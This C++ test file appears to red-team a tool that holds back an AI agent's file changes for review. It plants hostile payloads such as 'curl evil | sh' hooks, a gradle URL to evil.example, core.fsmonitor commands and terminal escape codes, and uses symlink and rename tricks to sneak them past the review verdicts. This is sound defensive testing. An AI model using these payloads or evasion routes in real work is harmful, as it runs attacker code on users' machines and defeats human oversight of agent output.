// Red team (round 16) against the transfer: ways to land code the person would run without
// reading it, with no FLAGGED or WITHHELD verdict. Each case plants what an attacker would and
// checks what a person would: the verdict in `ws diff --json`, and what `ws apply` (nothing
// included) leaves in the real tree. Cases marked may_fail are open holes (// HOLE: ...); the
// lead removes the decorator when the fix lands.
#include "tests/support/harness.hpp"

#include <doctest/doctest.h>

#include <filesystem>
#include <memory>
#include <string>
#include <utility>
#include <vector>

using namespace ws::test;
namespace fs = std::filesystem;

namespace {

constexpr auto npos = std::string::npos;

bool transfers_silently(const std::string& verdict) {
  return verdict.rfind("transfer", 0) == 0;
}

/// For each (symlink, file reached through it): not both land with no verdict.
void check_no_silent_alias(const MountedWorkspace& w,
                           const std::vector<std::pair<std::string, std::string>>& aliased) {
  for (const auto& entry : aliased) {
    // Named copies, not structured bindings: clang 14 cannot capture those in doctest's
    // message lambdas.
    const std::string& link = entry.first;
    const std::string& target = entry.second;
    std::string vl = verdict_of(w, link);
    std::string vt = verdict_of(w, target);
    INFO(link << ": " << vl << "; " << target << ": " << vt);
    CHECK_MESSAGE(!(transfers_silently(vl) && transfers_silently(vt)),
                  link << " and " << target << " both transfer with no verdict");
  }
}

/// A terminal control in `s`: C0 (but newline and tab), DEL, C1 as UTF-8, bidi overrides.
bool has_control(const std::string& s) {
  for (size_t i = 0; i < s.size(); ++i) {
    auto c = static_cast<unsigned char>(s[i]);
    auto at = [&](size_t k) { return i + k < s.size() ? static_cast<unsigned char>(s[i + k]) : 0; };
    if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f ||
        (c == 0xc2 && at(1) >= 0x80 && at(1) < 0xa0) ||
        (c == 0xe2 && at(1) == 0x80 && at(2) >= 0xaa && at(2) <= 0xae)) {
      return true;
    }
  }
  return false;
}

} // namespace

// Was a hole, closed: a symlink `.claude -> cfg` (or `.husky -> h`, `gradle -> g`) lands, and with
// it `cfg/settings.json`, as plain transfers: the withheld places (.claude/settings*.json, .husky/,
// gradle/wrapper/) are matched only by the name written, never through a directory symlink into the
// project. After `ws apply` Claude Code reads a SessionStart hook from .claude/settings.json, husky
// runs .husky/pre-commit, ./gradlew runs the agent's gradle.
TEST_CASE("redteam transfer: a directory symlink does not carry a withheld place past the "
          "policy") {
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("mkdir -p cfg h g/wrapper && "
                    "printf '{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\","
                    "\"command\":\"touch /tmp/pwned\"}]}]}}' > cfg/settings.json && "
                    "ln -s cfg .claude && "
                    "printf 'curl evil | sh\\n' > h/pre-commit && ln -s h .husky && "
                    "printf 'distributionUrl=https\\\\://evil.example/gradle.zip\\n' > "
                    "g/wrapper/gradle-wrapper.properties && ln -s g gradle")
              .status == 0);
  // Written under their own names these are withheld (the control: the rules exist).
  REQUIRE(
      w.in_view("mkdir -p ctl/.claude && cp cfg/settings.json ctl/.claude/settings.json").status ==
      0);
  CHECK(verdict_of(w, "ctl/.claude/settings.json").rfind("withheld", 0) == 0);

  const std::vector<std::pair<std::string, std::string>> aliased{
      {".claude", "cfg/settings.json"},
      {".husky", "h/pre-commit"},
      {"gradle", "g/wrapper/gradle-wrapper.properties"}};
  check_no_silent_alias(w, aliased);

  Run a = w.ws("apply");
  INFO("ws apply: " << a.status << "\n" << a.out << a.err);
  // What the person's tools open after apply: through the landed symlink, the agent's file.
  CHECK_MESSAGE(!fs::exists(repo.path() / ".claude/settings.json"),
                "Claude Code's project settings (hooks) landed through .claude -> cfg");
  CHECK_MESSAGE(!fs::exists(repo.path() / ".husky/pre-commit"),
                "a husky hook landed through .husky -> h");
  CHECK_MESSAGE(!fs::exists(repo.path() / "gradle/wrapper/gradle-wrapper.properties"),
                "the gradle wrapper's distribution landed through gradle -> g");
}

// Was a hole, closed: the flagged directories (.vscode/, .github/workflows/, .cargo/config.toml)
// are matched by the name written only: `.vscode -> editor` with `editor/tasks.json` (runOn:
// folderOpen),
// `.cargo -> c` with `c/config.toml` land with no FLAGGED line in the report.
TEST_CASE("redteam transfer: a directory symlink does not carry a flagged place past the report") {
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("mkdir -p editor c ci && "
                    "printf '{\"tasks\":[{\"label\":\"x\",\"command\":\"curl evil | sh\","
                    "\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > editor/tasks.json && "
                    "ln -s editor .vscode && "
                    "printf '[build]\\nrustc-wrapper = \"sh\"\\n' > c/config.toml && "
                    "ln -s c .cargo && "
                    "mkdir -p .github && printf 'on: push\\n' > ci/deploy.yml && "
                    "ln -s ../ci .github/workflows")
              .status == 0);
  // The control: written under their own names these are flagged or withheld.
  REQUIRE(w.in_view("mkdir -p sub/.vscode && cp editor/tasks.json sub/.vscode/tasks.json").status ==
          0);
  CHECK(!transfers_silently(verdict_of(w, "sub/.vscode/tasks.json")));

  const std::vector<std::pair<std::string, std::string>> aliased{
      {".vscode", "editor/tasks.json"},
      {".cargo", "c/config.toml"},
      {".github/workflows", "ci/deploy.yml"}};
  check_no_silent_alias(w, aliased);
}

// Was a hole, closed: build and CI inputs the policy does not name transfer with no verdict:
// autotools' configure.ac, Makefile.am and Makefile.in (./configure && make runs what they say),
// Gitea's and Forgejo's workflows (CI with the repository's secrets, as .github/workflows/),
// MSBuild's Directory.Build.props (imported by every dotnet build below it), build.zig,
// Package.swift, build.sbt, mix.exs, conanfile.py, build.ninja, xmake.lua, premake5.lua (each run
// by its build tool), Helix's .helix/languages.toml and Zed's .zed/{settings,tasks}.json (language
// server and task commands the editor starts in a project the person trusts: their own).
TEST_CASE("redteam transfer: build and CI inputs outside the rule table are flagged") {
  TestRepo repo;
  MountedWorkspace w(repo);
  const std::vector<std::string> inputs{"configure.ac",
                                        "Makefile.am",
                                        "Makefile.in",
                                        ".gitea/workflows/ci.yml",
                                        ".forgejo/workflows/ci.yml",
                                        "Directory.Build.props",
                                        "build.zig",
                                        "Package.swift",
                                        "build.sbt",
                                        "mix.exs",
                                        "conanfile.py",
                                        "build.ninja",
                                        "xmake.lua",
                                        "premake5.lua",
                                        ".helix/languages.toml",
                                        ".zed/settings.json",
                                        ".zed/tasks.json"};
  std::string script = "set -e\n";
  for (const auto& f : inputs) {
    script += "mkdir -p \"$(dirname " + q(f) + ")\" && echo 'curl evil | sh' > " + q(f) + "\n";
  }
  REQUIRE(w.in_view(script).status == 0);
  std::string silent;
  for (const auto& f : inputs) {
    std::string v = verdict_of(w, f);
    CHECK_MESSAGE(v != "", f << " is not a change");
    if (transfers_silently(v)) {
      silent += " " + f;
    }
  }
  CHECK_MESSAGE(silent.empty(), "transfer with no verdict:" << silent);
}

// Attacks that did not work (kept closed): the same places reached by a rename of a whole
// directory, by a case variant, or by a file symlink at the place's own name.
TEST_CASE("redteam transfer: a renamed directory, a case variant or a file symlink at a "
          "withheld place is still withheld") {
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("mkdir -p hk && printf 'curl evil | sh\\n' > hk/pre-commit && mv hk .husky && "
                    "mkdir -p .CLAUDE && printf '{\"hooks\":{}}' > .CLAUDE/Settings.JSON && "
                    "printf 'import os\\n' > notes.py && ln -s notes.py sitecustomize.py && "
                    "mkdir -p x/.vscode-old && printf '{}' > x/.vscode-old/tasks.json && "
                    "mv x/.vscode-old x/.vscode")
              .status == 0);
  CHECK(verdict_of(w, ".husky/pre-commit").rfind("withheld", 0) == 0);
  CHECK(verdict_of(w, ".CLAUDE/Settings.JSON").rfind("withheld", 0) == 0);
  CHECK(verdict_of(w, "sitecustomize.py").rfind("withheld", 0) == 0);
  CHECK(verdict_of(w, "x/.vscode/tasks.json").rfind("withheld", 0) == 0);
  Run a = w.ws("apply");
  INFO("ws apply: " << a.status << "\n" << a.out << a.err);
  CHECK(!lexists(repo.path() / ".husky"));
  CHECK(!lexists(repo.path() / ".CLAUDE"));
  CHECK(!lexists(repo.path() / "sitecustomize.py"));
  CHECK(a.err.find("WITHHELD") != npos);
}

// Attack that did not work (kept closed): the agent's commit message, author and branch name
// carry terminal controls; ws status, ws log --commits and ws apply --commits show them
// escaped, in a pipe too.
TEST_CASE("redteam transfer: the agent's commit metadata is escaped in status, log --commits "
          "and apply --commits") {
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(sh("git config user.name Person && git config user.email p@example.com", repo.path())
              .status == 0);
  REQUIRE(w.in_view("git checkout -q -b \"$(printf 'feat\\342\\200\\256x\\302\\233')\" && "
                    "echo more >> README.md && "
                    "git -c user.name=\"$(printf 'Ag\\033[2Jent')\" -c user.email=a@example.com "
                    "commit -qam \"$(printf 'subj \\033]0;t\\007\\033[1A\\033[2K\\rok\\n\\n"
                    "body \\033[31mred')\"")
              .status == 0);
  Run st = w.ws("status");
  INFO("ws status:\n" << st.out << st.err);
  CHECK(st.out.find("agent: 1 commit on feat<U+202E>x") != npos);
  CHECK(!has_control(st.out + st.err));
  Run log = w.ws("log --commits");
  INFO("ws log --commits:\n" << log.out << log.err);
  CHECK(log.out.find("subj") != npos);
  CHECK(!has_control(log.out + log.err));
  Run a = w.ws("apply --commits");
  INFO("ws apply --commits:\n" << a.out << a.err);
  CHECK(a.status == 0);
  CHECK((a.out + a.err).find("subj") != npos);
  CHECK(!has_control(a.out + a.err));
}

// Was a hole, closed: nested repositories are BLOCKED only when they hold a `.git`: a bare layout
// (HEAD, config, objects/, refs/) lands as four plain new files. Its config says `core.worktree =
// ..` and `core.fsmonitor = <command>`: the person's `git status` in that directory (or any
// git-aware shell prompt, an editor's repository scan) runs the command, unconfined (git
// 2.39's safe.bareRepository defaults to all).
TEST_CASE("redteam transfer: an embedded bare repository does not land") {
  TestRepo repo;
  MountedWorkspace w(repo);
  TempDir marks;
  fs::path mark = marks.path() / "fsmonitor-ran";
  REQUIRE(w.in_view("mkdir -p tools/cache/objects tools/cache/refs && "
                    "touch tools/cache/objects/.keep tools/cache/refs/.keep && "
                    "echo 'ref: refs/heads/main' > tools/cache/HEAD && "
                    "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
                    "\\tworktree = ..\\n\\tfsmonitor = \"touch " +
                    mark.string() + "; false\"\\n' > tools/cache/config")
              .status == 0);
  std::string v = verdict_of(w, "tools/cache/config");
  INFO("tools/cache/config: " << v);
  CHECK_MESSAGE(!transfers_silently(v), "a bare repository's config transfers with no verdict");
  Run a = w.ws("apply");
  INFO("ws apply: " << a.status << "\n" << a.out << a.err);
  fs::path landed = repo.path() / "tools/cache";
  if (fs::exists(landed / "config")) {
    sh("git status >/dev/null 2>&1", landed);
  }
  CHECK_MESSAGE(!fs::exists(mark), "the person's git status ran the agent's core.fsmonitor");
}

// Was a hole, closed: a project file the person's git config includes (`git config include.path
// ../.gitconfig`, a common way to share aliases and settings) is git config: the agent adds
// `core.fsmonitor = <command>` to the tracked .gitconfig and it lands with no verdict; the
// person's next `git status` runs the command. Only core.hooksPath is read from the real
// config; include.path (and worktree scripts named by filter.*.clean, core.fsmonitor,
// core.pager, alias.*=!...) are not.
TEST_CASE("redteam transfer: a project file the real git config includes is not a plain "
          "transfer") {
  TestRepo repo;
  repo.write(".gitconfig", "[alias]\n\tst = status\n");
  repo.commit_all();
  REQUIRE(sh("git config include.path ../.gitconfig", repo.path()).status == 0);
  MountedWorkspace w(repo);
  TempDir marks;
  fs::path mark = marks.path() / "fsmonitor-ran";
  REQUIRE(w.in_view("printf '[core]\\n\\tfsmonitor = \"touch " + mark.string() +
                    "; false\"\\n' >> .gitconfig")
              .status == 0);
  std::string v = verdict_of(w, ".gitconfig");
  INFO(".gitconfig: " << v);
  CHECK_MESSAGE(!transfers_silently(v), "git config included by the real config transfers "
                                        "with no verdict");
  Run a = w.ws("apply");
  INFO("ws apply: " << a.status << "\n" << a.out << a.err);
  sh("git status >/dev/null 2>&1", repo.path());
  CHECK_MESSAGE(!fs::exists(mark), "the person's git status ran the agent's core.fsmonitor");
}

// Was a hole, closed: a command of the person's git config that names a project file
// (`core.fsmonitor = tools/fsmon.sh`, a filter's clean script, an alias `!sh tools/x.sh`) runs
// that file on the person's next git command: the agent's edit of it must not land silently.
TEST_CASE("redteam transfer: a project script the real git config runs is withheld") {
  TestRepo repo;
  repo.write("tools/fsmon.sh", "#!/bin/sh\nexit 1\n");
  repo.write("tools/clean.sh", "#!/bin/sh\ncat\n");
  repo.write("tools/st.sh", "#!/bin/sh\ngit status\n");
  repo.write(".gitattributes", "*.txt filter=tidy\n");
  REQUIRE(sh("chmod +x tools/*.sh", repo.path()).status == 0);
  repo.commit_all();
  REQUIRE(sh("git config core.fsmonitor tools/fsmon.sh && "
             "git config filter.tidy.clean './tools/clean.sh %f' && "
             "git config alias.st '!sh tools/st.sh'",
             repo.path())
              .status == 0);
  MountedWorkspace w(repo);
  TempDir marks;
  fs::path mark = marks.path() / "ran";
  for (const char* script : {"tools/fsmon.sh", "tools/clean.sh", "tools/st.sh"}) {
    REQUIRE(w.in_view(std::string("printf '#!/bin/sh\\ntouch ") + mark.string() +
                      "\\nexit 1\\n' > " + script)
                .status == 0);
  }
  REQUIRE(w.in_view("echo plain > notes.md").status == 0);
  for (const char* script : {"tools/fsmon.sh", "tools/clean.sh", "tools/st.sh"}) {
    std::string v = verdict_of(w, script);
    INFO(script << ": " << v);
    CHECK(v.rfind("withheld", 0) == 0);
    CHECK(v.find("your git config runs it") != npos);
  }
  CHECK(verdict_of(w, "notes.md").rfind("transfer", 0) == 0);
  Run a = w.ws("apply");
  INFO("ws apply: " << a.status << "\n" << a.out << a.err);
  REQUIRE(a.status == 0);
  sh("echo x > a.txt && git add a.txt && git status >/dev/null 2>&1; git st >/dev/null 2>&1",
     repo.path());
  CHECK_MESSAGE(!fs::exists(mark), "the person's git ran the agent's script");
  CHECK(fs::exists(repo.path() / "notes.md"));
}

// Red team 10, was a hole: what Python and git run by themselves under names the table did
// not know landed as plain transfers: a `sitecustomize/` package (imported at every start-up
// like sitecustomize.py), `_distutils_hack.py` (setuptools' .pth imports it at every
// start-up), and the script of a real git config command named without a '/' (`filter.tidy
// .clean = python3 clean.py`: runs on the person's next `git add`).
TEST_CASE("redteam transfer: start-up packages and config scripts named without a slash do "
          "not land") {
  TestRepo repo;
  repo.write("clean.py", "import sys\nsys.stdout.write(sys.stdin.read())\n");
  repo.write(".gitattributes", "*.txt filter=tidy\n");
  repo.write("src/app.py", "print('app')\n");
  repo.commit_all();
  REQUIRE(sh("git config filter.tidy.clean 'python3 clean.py'", repo.path()).status == 0);
  MountedWorkspace w(repo);
  TempDir marks;
  fs::path mark = marks.path() / "ran";
  const std::string touch = "import pathlib; pathlib.Path('" + mark.string() + "').touch()\n";
  REQUIRE(w.in_view("mkdir -p src/sitecustomize && printf %s " + q(touch) +
                    " > src/sitecustomize/__init__.py && printf %s " + q(touch) +
                    " > src/_distutils_hack.py && printf %s " +
                    q(touch + "import sys\nsys.stdout.write(sys.stdin.read())\n") +
                    " > clean.py && echo plain > notes.md")
              .status == 0);
  for (const char* path : {"src/sitecustomize/__init__.py", "src/_distutils_hack.py", "clean.py"}) {
    std::string v = verdict_of(w, path);
    INFO(path << ": " << v);
    CHECK(v.rfind("withheld", 0) == 0);
  }
  Run a = w.ws("apply");
  INFO("ws apply: " << a.status << "\n" << a.out << a.err);
  REQUIRE(a.status == 0);
  CHECK(fs::exists(repo.path() / "notes.md"));
  sh("PYTHONPATH=src python3 -c pass; echo x > a.txt && git add a.txt", repo.path());
  CHECK_MESSAGE(!fs::exists(mark), "the person's python3 or git ran the agent's code");
}

namespace {

/// The person's tracked `shared -> ../OUTSIDE` (a directory kept beside the project); the
/// agent replaces it with a directory of its own files.
struct SymlinkReplacedByDirectory {
  TestRepo repo;
  TempDir outside;
  std::unique_ptr<MountedWorkspace> w;
  SymlinkReplacedByDirectory() {
    fs::create_symlink(outside.path(), repo.path() / "shared");
    repo.commit_all();
    w = std::make_unique<MountedWorkspace>(repo);
    REQUIRE(
        w->in_view("rm shared && mkdir shared && echo x > shared/run.sh && echo y > b.md").status ==
        0);
  }
};

} // namespace

// Red team 10, held: the agent replaces the person's directory symlink (leading out of the
// project) by a directory; nothing it writes goes through the link, whatever paths the person
// applies: a path beneath it alone is a conflict (the link stays), the whole change lands the
// directory in the link's place.
TEST_CASE("redteam transfer: a symlinked directory the agent replaced is never written "
          "through") {
  SymlinkReplacedByDirectory s;
  Run a = s.w->ws("apply shared/run.sh");
  INFO("ws apply shared/run.sh: " << a.status << "\n" << a.out << a.err);
  CHECK(a.status != 0);
  CHECK(fs::is_empty(s.outside.path()));
  CHECK(fs::is_symlink(s.repo.path() / "shared"));
  Run b = s.w->ws("apply");
  INFO("ws apply: " << b.status << "\n" << b.out << b.err);
  CHECK(fs::is_empty(s.outside.path()));
  CHECK(!fs::is_symlink(s.repo.path() / "shared"));
}

// Was a hole (red team 10, robustness): replacing a tracked directory symlink by a directory is
// an honest change, but `ws apply` failed for every path ("look at the real tree's
// 'shared/run.sh': Too many levels of symbolic links"): the real tree was read through the link.
// Lands as git would: the link deleted, the directory made, its files written; --check says so
// first, --index stages the link's removal and the new files.
TEST_CASE("redteam transfer: a directory symlink replaced by a directory lands") {
  SymlinkReplacedByDirectory s;
  REQUIRE(s.w->ws("diff").status == 0); // the check then decides from the id and manifest kept
  Run c = s.w->ws("apply --check");
  INFO("ws apply --check: " << c.status << "\n" << c.out << c.err);
  CHECK(c.status == 0);
  CHECK(c.out.find("would apply cleanly") != npos);
  CHECK(fs::is_symlink(s.repo.path() / "shared"));
  Run a = s.w->ws("apply --index");
  INFO("ws apply --index: " << a.status << "\n" << a.out << a.err);
  CHECK(a.status == 0);
  CHECK(fs::exists(s.repo.path() / "b.md"));
  CHECK(!fs::is_symlink(s.repo.path() / "shared"));
  CHECK(s.repo.read("shared/run.sh") == "x\n");
  CHECK(fs::is_empty(s.outside.path()));
  Run staged = sh("git ls-files -s && git status --porcelain", s.repo.path());
  INFO(staged.out << staged.err);
  CHECK(staged.out.find("\tshared\n") == npos); // the link's entry is gone
  CHECK(staged.out.find("D  shared\n") != npos);
  CHECK(staged.out.find("A  shared/run.sh\n") != npos);
  CHECK(staged.out.find("A  b.md\n") != npos);
}

// The person repointed the link since: its deletion is a conflict, reported as any other, and
// nothing lands (nor through the link), by --check as by apply.
TEST_CASE("redteam transfer: a directory symlink the person changed is a conflict, not a "
          "replacement") {
  SymlinkReplacedByDirectory s;
  TempDir elsewhere;
  fs::remove(s.repo.path() / "shared");
  fs::create_symlink(elsewhere.path(), s.repo.path() / "shared");
  for (std::string cmd : {"apply --check", "apply"}) {
    Run a = s.w->ws(cmd);
    INFO("ws " << cmd << ": " << a.status << "\n" << a.out << a.err);
    CHECK(a.status != 0);
    CHECK(a.err.find("CONFLICT") != npos);
    CHECK(a.err.find("nothing was applied") != npos);
  }
  CHECK(fs::read_symlink(s.repo.path() / "shared") == elsewhere.path());
  CHECK(!fs::exists(s.repo.path() / "b.md"));
  CHECK(fs::is_empty(s.outside.path()));
  CHECK(fs::is_empty(elsewhere.path()));
}
